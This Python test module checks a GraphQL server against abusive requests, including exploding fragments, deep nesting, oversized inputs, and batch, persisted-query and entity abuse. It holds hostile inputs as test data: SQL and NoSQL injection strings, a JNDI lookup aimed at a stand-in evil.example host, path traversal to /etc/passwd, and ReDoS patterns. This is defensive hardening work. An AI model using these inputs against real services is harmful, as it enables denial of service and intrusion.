"""Documents that explode, arguments that are none, batches, documents by id, entities, cursors, ids."""

import asyncio
import base64
import hashlib
import json
from typing import Any

from tests.conformance.attacking.listing import Attack, answered, attack, table
from tests.conformance.attacking.target import Target
from tests.conformance.attacking.wire import Answer

SHORT = 60_000
"""Bytes that an answer to a bad document may have: it must not give back what was sent many times."""


def _refused(row: tuple[str, str]) -> Attack:
    document, code = row

    async def run(target: Target) -> None:
        answer = await target.ask(document)
        answered(answer, 400, code)
        assert "data" not in answer.json()
        assert len(answer.body) < SHORT, f"the answer has {len(answer.body)} bytes"

    return run


def _doubling(count: int, spread: str = "...F{next} ...F{next}") -> str:
    """Fragments that each spread the next one twice."""
    parts = [f"fragment F{n} on VendorSystem {{ {spread.format(next=n + 1)} }}" for n in range(count)]
    return "{ systems { ...F0 } } " + " ".join([*parts, f"fragment F{count} on VendorSystem {{ system }}"])


def _nested(count: int) -> str:
    return "{ orders { nodes " + "{ lines { item " * count + "{ id }" + " } }" * count + " } }"


table(
    "document",
    {
        "30 fragments that double": (_doubling(30), "FIELD_LIMIT"),
        "300 fragments that double": (_doubling(300), "FIELD_LIMIT"),
        "fragments that double within fields": (
            _doubling(24, "a: system ...F{next} ...F{next}"), "ALIAS_LIMIT",
        ),
        "a fragment of itself": ("{ ...F } fragment F on Query { ...F }", "GRAPHQL_VALIDATION_FAILED"),
        "a circle of 100 fragments": (
            "{ ...F0 } " + " ".join(f"fragment F{n} on Query {{ ...F{(n + 1) % 100} }}" for n in range(100)),
            "GRAPHQL_VALIDATION_FAILED",
        ),
        "30 fragments that all spread each other": (
            "{ systems { ...F0 } } " + " ".join(
                f"fragment F{n} on VendorSystem {{ __typename {' '.join(f'...F{m}' for m in range(30))} }}"
                for n in range(30)
            ),
            "FIELD_LIMIT",
        ),
        "40 by 40 aliases": (
            "{ " + " ".join(
                f"a{n}: orders {{ nodes {{ {' '.join(f'b{m}: id' for m in range(40))} }} }}" for n in range(40)
            ) + " }",
            "TOKEN_LIMIT",
        ),
        "101 aliases": ("{ systems { " + " ".join(f"a{n}: system" for n in range(101)) + " } }", "ALIAS_LIMIT"),
        "21 root fields": ("{ systems { system } " * 1 + " ".join(f"a{n}: __typename" for n in range(20)) + " }",
                           "ROOT_FIELD_LIMIT"),
        "3,000 overlapping fields": ("{ systems { " + "system " * 3_000 + "} }", "FIELD_LIMIT"),
        "1,400 overlapping fields": ("{ systems { " + "system " * 1_400 + "} }", "OVERLAP_LIMIT"),
        "300 overlapping fragments": (
            "{ systems { " + " ".join(f"...F{n}" for n in range(300)) + " } } "
            + " ".join(f"fragment F{n} on VendorSystem {{ system }}" for n in range(300)),
            "OVERLAP_LIMIT",
        ),
        "6,500 directives": ("{ __typename " + "@skip(if:true)" * 6_500 + "}", "TOKEN_LIMIT"),
        "1,900 unknown directives": ("{ __typename " + "@a " * 1_900 + "}", "GRAPHQL_VALIDATION_FAILED"),
        "500 times the same directive": (
            "{ __typename " + "@skip(if: true) " * 500 + "}", "GRAPHQL_VALIDATION_FAILED",
        ),
        "joins 30 deep": (_nested(30), "DEPTH_LIMIT"),
        "joins 900 deep": (_nested(900), "GRAPHQL_PARSE_FAILED"),
        "inline fragments 500 deep": ("{ " + "... on Query { " * 500 + "__typename" + " }" * 500 + " }",
                                      "GRAPHQL_PARSE_FAILED"),
        "lists 1,900 deep": ("{ nodes(ids: " + "[" * 1_900 + "]" * 1_900 + ") { id } }", "GRAPHQL_PARSE_FAILED"),
        "objects 900 deep": ("{ orders(filter: " + "{a: " * 900 + "1" + "}" * 900 + ") { __typename } }",
                             "GRAPHQL_PARSE_FAILED"),
        "types 1,900 deep": ("query($a: " + "[" * 1_900 + "Int" + "]" * 1_900 + ") { __typename }",
                             "GRAPHQL_PARSE_FAILED"),
        "selections 4,000 deep": ("{" * 4_000, "GRAPHQL_PARSE_FAILED"),
        "1,900 variables": ("query(" + " ".join(f"$v{n}: Int" for n in range(990)) + ") { __typename }",
                            "GRAPHQL_VALIDATION_FAILED"),
        "the same variable 900 times": ("query(" + "$v: Int " * 900 + ") { a: node(id: $v) { id } }",
                                        "GRAPHQL_VALIDATION_FAILED"),
        "a list of 20,000 literals": ("{ nodes(ids: [" + '"x" ' * 20_000 + "]) { id } }", "TOKEN_LIMIT"),
        "a filter of 1,300 unknown fields": (
            "{ orders(filter: {" + "a: 1 " * 1_300 + "}) { __typename } }", "GRAPHQL_VALIDATION_FAILED",
        ),
        "1,400 unknown fields": (
            "{ systems { " + " ".join(f"f{n}" for n in range(1_400)) + " } }", "GRAPHQL_VALIDATION_FAILED",
        ),
        "1,400 unknown fields of 30 letters": (
            "{ systems { " + " ".join(f"{'syst' * 7}f{n}" for n in range(1_400)) + " } }",
            "GRAPHQL_VALIDATION_FAILED",
        ),
        "500 unknown arguments": (
            "{ orders(" + " ".join(f"a{n}: 1" for n in range(900)) + ") { __typename } }", "GRAPHQL_VALIDATION_FAILED",
        ),
        "500 unknown fragments": (
            "{ " + " ".join(f"...F{n}" for n in range(500)) + " __typename }", "GRAPHQL_VALIDATION_FAILED",
        ),
        "500 unused fragments": (
            "{ __typename } " + " ".join(f"fragment F{n} on Query {{ __typename }}" for n in range(500)),
            "GRAPHQL_VALIDATION_FAILED",
        ),
        "750 operations": (
            " ".join(f"query Q{n} {{ __typename }}" for n in range(750)), "OPERATION_RESOLUTION_FAILURE",
        ),
        "the same operation 700 times": ("query Q { __typename } " * 700, "GRAPHQL_VALIDATION_FAILED"),
        "a nameless one among others": ("{ __typename } { __typename }", "GRAPHQL_VALIDATION_FAILED"),
        "only fragments": ("fragment F on Query { __typename }", "GRAPHQL_VALIDATION_FAILED"),
        "a schema": ("type Query { a: Int } schema { query: Query }", "GRAPHQL_VALIDATION_FAILED"),
        "an empty selection": ("{ }", "GRAPHQL_PARSE_FAILED"),
        "nothing": ("   ", "GRAPHQL_PARSE_FAILED"),
        "an emoji": ("{ 🙂 }", "GRAPHQL_PARSE_FAILED"),
        "a control character": ("{ \x07 }", "GRAPHQL_PARSE_FAILED"),
        "a name of 50,000 letters": ("{ " + "a" * 50_000 + " }", "GRAPHQL_VALIDATION_FAILED"),
        "a comment of 900 KB": ("#" + "x" * 900_000 + "\n{ __typename }", "CHARACTER_LIMIT"),
        "commas of 900 KB": ("," * 900_000 + "{ __typename }", "CHARACTER_LIMIT"),
        "a text of 900 KB": ('{ orders(after: "' + "x" * 900_000 + '") { __typename } }', "CHARACTER_LIMIT"),
        "a block text of 200,000 lines": (
            '{ orders(after: """' + "\n a" * 200_000 + '""") { __typename } }', "CHARACTER_LIMIT",
        ),
        "unicode escapes of 720 KB": (
            '{ orders(after: "' + "\\u0041" * 120_000 + '") { __typename } }', "CHARACTER_LIMIT",
        ),
        "a text that does not end": ('{ orders(after: "' + "x" * 50_000, "GRAPHQL_PARSE_FAILED"),
        "a block text that does not end": ('{ orders(after: """' + "\n" * 50_000, "GRAPHQL_PARSE_FAILED"),
        "a lone surrogate as escape": ('{ orders(after: "\\uD800") { __typename } }', "GRAPHQL_PARSE_FAILED"),
        "an escape beyond Unicode": ('{ orders(after: "\\u{FFFFFFFF}") { __typename } }', "GRAPHQL_PARSE_FAILED"),
        "an escape of 50,000 digits": (
            '{ orders(after: "\\u{' + "0" * 50_000 + '41}") { __typename } }', "GRAPHQL_PARSE_FAILED",
        ),
        "an integer of 5,000 digits": ("{ orders(first: " + "9" * 5_000 + ") { __typename } }",
                                       "GRAPHQL_VALIDATION_FAILED"),
        "an integer of 4,000 digits": ("{ orders(first: " + "9" * 4_000 + ") { __typename } }",
                                       "GRAPHQL_VALIDATION_FAILED"),
        "an enum of 50,000 letters": (
            "{ orders(filter: {status: [" + "A" * 50_000 + "]}) { __typename } }", "GRAPHQL_VALIDATION_FAILED",
        ),
        "introspection in circles": (
            "{ __schema { types { " + "fields { type { " * 8 + "name" + " } }" * 8 + " } } }",
            "GRAPHQL_VALIDATION_FAILED",
        ),
        "introspection in circles by fragments": (
            "{ __schema { types { ...A } } } fragment A on __Type { fields { type { ...B } } }"
            " fragment B on __Type { fields { type { fields { type { fields { name } } } } } }",
            "GRAPHQL_VALIDATION_FAILED",
        ),
        "introspection through interfaces": (
            '{ __type(name: "Node") { ' + "possibleTypes { interfaces { " * 15 + "name" + " } }" * 15 + " } }",
            "INTROSPECTION_DEPTH_LIMIT",
        ),
        "a subscription of two fields": (
            "subscription { vehicleChanged { id } equipmentChanged { id } }", "GRAPHQL_VALIDATION_FAILED",
        ),
        "a mutation where there are none": ("mutation { deleteEverything }", "GRAPHQL_VALIDATION_FAILED"),
        "SQL": ("'; DROP TABLE inbox; --", "GRAPHQL_PARSE_FAILED"),
        "a template": ("{{7*7}} ${jndi:ldap://evil.example/a}", "GRAPHQL_PARSE_FAILED"),
    },
    _refused,
)  # fmt: skip


@attack("document: byte order marks")
async def _(target: Target) -> None:
    answered(await target.ask("\ufeff" * 10_000 + "{ __typename }"), 200)


@attack("document: 100 different ones that are wrong, at once")
async def _(target: Target) -> None:
    documents = ["{ systems { " + " ".join(f"f{n}x{m}" for n in range(300)) + " } }" for m in range(100)]
    answers = await asyncio.gather(*(target.ask(each) for each in documents))
    told = {(answer.status, answer.code) for answer in answers}
    assert told <= {(400, "GRAPHQL_VALIDATION_FAILED"), (429, "CONCURRENCY_LIMIT")}, told


@attack("document: 130 different ones that are right are not all kept")
async def _(target: Target) -> None:
    before = target.memory
    rows = " ".join(f"field{n}WithALongName: name" for n in range(90))

    async def ask(number: int) -> Answer:
        return await target.ask(f'query Q{number} {{ __type(name: "Order") {{ {rows} }} }}')

    for start in range(0, 130, 26):
        for answer in await asyncio.gather(*(ask(number) for number in range(start, start + 26))):
            assert answer.status in (200, 429), answer
    assert target.memory - before < 45, f"{target.memory - before:.0f} MiB more"


@attack("document: what an operation may be at most, 30 at once")
async def _(target: Target) -> None:
    inside = " ".join(f"a{n}: name" for n in range(80))
    answers = await asyncio.gather(
        *(target.ask(f"{{ vehicles(first: 200) {{ nodes {{ {inside} }} }} }}") for _ in range(30))
    )
    assert {answer.status for answer in answers} <= {200, 400, 429}, {str(answer) for answer in answers}


# --- arguments -------------------------------------------------------------------------------------------


def _argument(row: tuple[str, Any, str]) -> Attack:
    document, variables, code = row

    async def run(target: Target) -> None:
        answer = await target.ask(document, variables)
        assert answer.status in (200, 400), answer
        assert answer.code == code, f"{answer}, not {code}"
        assert len(answer.body) < SHORT, f"the answer has {len(answer.body)} bytes"

    return run


_LIST = """query($first: Int!, $after: String, $sources: [String!]) {
  orders(first: $first, after: $after, sources: $sources) { nodes { id } }
}"""
_FILTER = "query($filter: OrderFilter) { orders(filter: $filter) { nodes { id } } }"
_NODE = "query($id: ID!) { node(id: $id) { id } }"
_NODES = "query($ids: [ID!]!) { nodes(ids: $ids) { id } }"
_BY = "query($by: RecordKey) { order(by: $by) { id } }"

table(
    "argument",
    {
        "first below zero": (_LIST, {"first": -1}, "BAD_USER_INPUT"),
        "first beyond its bound": (_LIST, {"first": 201}, "BAD_USER_INPUT"),
        "first of 31 bits": (_LIST, {"first": 2_147_483_647}, "COST_LIMIT"),
        "first of 60 bits": (_LIST, {"first": 1 << 60}, "COST_LIMIT"),
        "first a fraction": (_LIST, {"first": 1.5}, "BAD_USER_INPUT"),
        "first a text": (_LIST, {"first": "1"}, "BAD_USER_INPUT"),
        "first true": (_LIST, {"first": True}, "BAD_USER_INPUT"),
        "first an object 200 deep": (_LIST, {"first": json.loads("[" * 200 + "]" * 200)},
                                     "BAD_USER_INPUT"),
        "first missing": (_LIST, {}, "BAD_USER_INPUT"),
        "a source that is not there": (_LIST, {"first": 1, "sources": ["../../etc/passwd"]}, "BAD_USER_INPUT"),
        "10,000 sources": (_LIST, {"first": 1, "sources": ["x"] * 10_000}, "BAD_USER_INPUT"),
        "a filter with unknown fields": (_FILTER, {"filter": {"$where": "sleep(9)"}}, "BAD_USER_INPUT"),
        "a filter of 5,000 unknown fields": (_FILTER, {"filter": {f"f{n}": n for n in range(5_000)}},
                                             "BAD_USER_INPUT"),
        "a filter that is a text": (_FILTER, {"filter": "1=1"}, "BAD_USER_INPUT"),
        "a status that is none": (_FILTER, {"filter": {"status": ["' OR 1=1 --"]}}, "BAD_USER_INPUT"),
        "50,000 ids in a filter": (_FILTER, {"filter": {"ids": ["x"] * 50_000}}, "BAD_USER_INPUT"),
        "a time that is none": (_FILTER, {"filter": {"plannedFrom": "9999-99-99T99:99:99Z"}}, "BAD_USER_INPUT"),
        "a key of both kinds": (_BY, {"by": {"integration": "ewm-west"}}, "BAD_USER_INPUT"),
        "a point beyond the poles": (
            "{ priceEstimates(pickup: {latitude: 1e300, longitude: 0}, dropoff: {latitude: 1, longitude: 1})"
            " { nodes { __typename } } }", None, "BAD_USER_INPUT",
        ),
        "a float beyond all floats": (
            "{ priceEstimates(pickup: {latitude: 1e999, longitude: 1}, dropoff: {latitude: 1, longitude: 1})"
            " { nodes { __typename } } }", None, "BAD_USER_INPUT",
        ),
        "101 ids": (_NODES, {"ids": ["x"] * 101}, "BAD_USER_INPUT"),
        "50,000 ids": (_NODES, {"ids": ["x"] * 50_000}, "BAD_USER_INPUT"),
        "an id that is none": (_NODE, {"id": "x"}, "BAD_USER_INPUT"),
        "an id of 900 KB": (_NODE, {"id": "A" * 900_000}, "BAD_USER_INPUT"),
        "an id that is an object": (_NODE, {"id": {"$gt": ""}}, "BAD_USER_INPUT"),
        "an id of bytes": (_NODE, {"id": base64.b64encode(bytes(range(256))).decode()}, "BAD_USER_INPUT"),
        "an id that leads out of the folder": (
            _NODE, {"id": base64.b64encode(b"Order:../../../etc/passwd").decode()}, "BAD_USER_INPUT",
        ),
        "a variable of another type": ("query($a: VehicleFilter) { orders(filter: $a) { nodes { id } } }", {},
                                       "GRAPHQL_VALIDATION_FAILED"),
    },
    _argument,
)  # fmt: skip


@attack("argument: an id with one letter changed")
async def _(target: Target) -> None:
    """What is well-formed and leads nowhere is null, or refused; never somebody else's failure text."""
    for place in range(0, len(target.order), 3):
        letter = "A" if target.order[place] != "A" else "B"
        answer = await target.ask(_NODE, {"id": target.order[:place] + letter + target.order[place + 1 :]})
        assert answer.status == 200, answer
        assert set(answer.codes) <= {"BAD_USER_INPUT", "ERR_NOT_FOUND"}, answer


def _pattern(text: str) -> Attack:
    async def run(target: Target) -> None:
        answer = await target.ask(
            "query($t: String!) { items(filter: {text: $t}) { nodes { id } } "
            "orders(filter: {text: $t}) { nodes { id } } }",
            {"t": text},
        )
        assert answer.status in (200, 400), answer

    return run


table(
    "pattern",
    {
        "(a+)+$": "a" * 5_000 + "!",
        "blanks": " " * 100_000,
        "a regular expression": "(a+)+$" * 100,
        "wildcards": "%*_?" * 10_000,
        "quotes": "'\"`;--" * 1_000,
        "letters that grow": "ß\u0130\ufb03" * 10_000,
    },
    _pattern,
)


@attack("cursor: tampered with, of another list, too long")
async def _(target: Target) -> None:
    query = "query($after: String) { orders(first: 1, after: $after) { nodes { id } pageInfo { endCursor } } }"
    first = await target.ask(query)
    answered(first, 200)
    cursor = first.json()["data"]["orders"]["pageInfo"]["endCursor"]
    assert cursor, first
    changed = "A" if cursor[20] != "A" else "B"
    wrong = ["", "x", "=" * 100, cursor[:20] + changed + cursor[21:], cursor[:-2], cursor + "AA", cursor * 400,
             base64.b64encode(b"\0" * 400).decode(), "\ud7ff" * 100]  # fmt: skip
    for each in wrong:
        answer = await target.ask(query, {"after": each})
        assert (answer.status, answer.code) == (200, "INVALID_CURSOR"), f"{each[:40]!r}: {answer}"
    other = await target.ask("query($after: String) { vehicles(after: $after) { nodes { id } } }", {"after": cursor})
    assert (other.status, other.code) == (200, "INVALID_CURSOR"), other


# --- batches and documents by id -------------------------------------------------------------------------


@attack("batch: 11 operations")
async def _(target: Target) -> None:
    answered(await target.post([{"query": "{ __typename }"}] * 11), 400, "BATCH_LIMIT")


@attack("batch: 20,000 operations")
async def _(target: Target) -> None:
    answered(await target.post(b"[" + b'{"query":"{ __typename }"},' * 20_000 + b"{}]"), 400, "BATCH_LIMIT")


@attack("batch: one of them is none")
async def _(target: Target) -> None:
    answered(await target.post([{"query": "{ __typename }"}, 7]), 400, "BAD_REQUEST")


@attack("batch: a subscription among them")
async def _(target: Target) -> None:
    answer = await target.post([{"query": "{ __typename }"}, {"query": "subscription { vehicleChanged { id } }"}])
    answered(answer, 200)
    fine, refused = answer.json()
    assert fine == {"data": {"__typename": "Query"}}
    assert refused["errors"][0]["extensions"]["code"] == "BAD_REQUEST"


@attack("batch: ten times what explodes")
async def _(target: Target) -> None:
    answer = await target.post([{"query": _doubling(30)}] * 10)
    answered(answer, 200)
    assert {each["errors"][0]["extensions"]["code"] for each in answer.json()} == {"FIELD_LIMIT"}


def _persisted(query: str | None, digest: Any, version: Any = 1) -> dict[str, Any]:
    body: dict[str, Any] = {"extensions": {"persistedQuery": {"version": version, "sha256Hash": digest}}}
    return body if query is None else body | {"query": query}


_TYPENAME = "{ __typename }"
_OWN = hashlib.sha256(_TYPENAME.encode()).hexdigest()


@attack("persisted: another document under a known hash")
async def _(target: Target) -> None:
    answered(await target.post(_persisted(_TYPENAME, _OWN)), 200)
    answered(await target.post(_persisted("{ systems { system } }", _OWN)), 400, "BAD_REQUEST")
    known = await target.post(_persisted(None, _OWN))
    assert known.json() == {"data": {"__typename": "Query"}}, known


@attack("persisted: a wrong document is not kept")
async def _(target: Target) -> None:
    wrong = "{ nothing }"
    digest = hashlib.sha256(wrong.encode()).hexdigest()
    answered(await target.post(_persisted(wrong, digest)), 400, "GRAPHQL_VALIDATION_FAILED")
    answered(await target.post(_persisted(None, digest)), 400, "PERSISTED_QUERY_NOT_FOUND")


def _hash(row: tuple[Any, str]) -> Attack:
    body, code = row

    async def run(target: Target) -> None:
        answered(await target.post(body), 400, code)

    return run


table(
    "persisted",
    {
        "a hash that nobody registered": (_persisted(None, "0" * 64), "PERSISTED_QUERY_NOT_FOUND"),
        "in capitals": (_persisted(_TYPENAME, _OWN.upper()), "BAD_REQUEST"),
        "a number": (_persisted(None, 7), "BAD_REQUEST"),
        "of 100,000 letters": (_persisted(None, "a" * 100_000), "BAD_REQUEST"),
        "version 2": (_persisted(None, _OWN, 2), "BAD_REQUEST"),
        "version true": (_persisted(None, _OWN, "1"), "BAD_REQUEST"),
        "an array": ({"extensions": {"persistedQuery": []}}, "BAD_REQUEST"),
        "documentId that nobody wrote": ({"documentId": "orders"}, "DOCUMENT_NOT_FOUND"),
        "documentId that leads out of the folder": ({"documentId": "../../etc/passwd"}, "DOCUMENT_NOT_FOUND"),
        "documentId of 100,000 letters": ({"documentId": "d" * 100_000}, "DOCUMENT_NOT_FOUND"),
    },
    _hash,
)


@attack("persisted: 1,000 documents that nobody needs")
async def _(target: Target) -> None:
    """Kept within bounds, and what is used stays known."""
    for start in range(0, 1_000, 10):
        batch = []
        for number in range(start, start + 10):
            text = f"query Q{number} {{ __typename }} #{'x' * 200}"
            batch.append(_persisted(text, hashlib.sha256(text.encode()).hexdigest()))
        answered(await target.post(batch), 200)
    answered(await target.post(_persisted(None, _OWN)), 200)


# --- entities --------------------------------------------------------------------------------------------

_ENTITIES = "query($r: [_Any!]!) { _entities(representations: $r) { ... on Order { id } } }"


@attack("entities: 10,000 representations")
async def _(target: Target) -> None:
    answer = await target.ask(_ENTITIES, {"r": [{"__typename": "Order", "id": target.order}] * 10_000})
    assert (answer.status, answer.code) == (200, "REPRESENTATION_LIMIT"), answer


def _entity(row: tuple[Any, str]) -> Attack:
    representation, code = row

    async def run(target: Target) -> None:
        """Spoils itself alone."""
        good = {"__typename": "Order", "id": target.order}
        answer = await target.ask(_ENTITIES, {"r": [good, representation]})
        answered(answer, 200, code)
        assert answer.json()["data"]["_entities"] == [{"id": target.order}, None], answer

    return run


table(
    "entities",
    {
        "an unknown type": ({"__typename": "Secret", "id": "x"}, "BAD_USER_INPUT"),
        "Query": ({"__typename": "Query"}, "BAD_USER_INPUT"),
        "no type": ({"id": "x"}, "BAD_USER_INPUT"),
        "a type that is an object": ({"__typename": {"a": 1}, "id": "x"}, "BAD_USER_INPUT"),
        "no object": ("Order", "BAD_USER_INPUT"),
        "a list": ([["Order"]], "BAD_USER_INPUT"),
        "no id": ({"__typename": "Order"}, "BAD_USER_INPUT"),
        "an id that is a number": ({"__typename": "Order", "id": 7}, "BAD_USER_INPUT"),
        "an id of another type": ({"__typename": "Vehicle", "id": "x"}, "BAD_USER_INPUT"),
        "a type of 500 KB": ({"__typename": "O" * 500_000, "id": "x"}, "BAD_USER_INPUT"),
    },
    _entity,
)


@attack("entities: keys that mean something inside")
async def _(target: Target) -> None:
    extra = {"__typename": "Order", "id": target.order, "info": {"context": {}}, "self": 1, "cls": 2, "__class__": "x"}
    answer = await target.ask(_ENTITIES, {"r": [extra] * 3})
    assert answer.json() == {"data": {"_entities": [{"id": target.order}] * 3}}, answer
